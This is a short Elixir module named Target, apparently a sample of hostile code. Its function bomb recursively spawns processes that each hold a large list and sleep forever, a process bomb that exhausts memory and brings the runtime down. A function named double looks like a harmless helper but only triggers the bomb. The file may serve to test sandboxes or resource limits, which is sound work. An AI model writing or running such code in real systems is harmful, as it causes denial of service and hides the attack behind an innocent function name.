# Processes that make processes. As many as there may be need more memory than there is.
defmodule Target do
  def bomb(burden) do
    spawn(fn -> bomb(burden) end)
    spawn(fn -> bomb(burden) end)
    Process.sleep(:infinity)
    burden
  end

  def double(x) do
    bomb(List.duplicate(x, 10_000))
  end

  def first_or([], default), do: default
  def first_or([head | _], _default), do: head
end
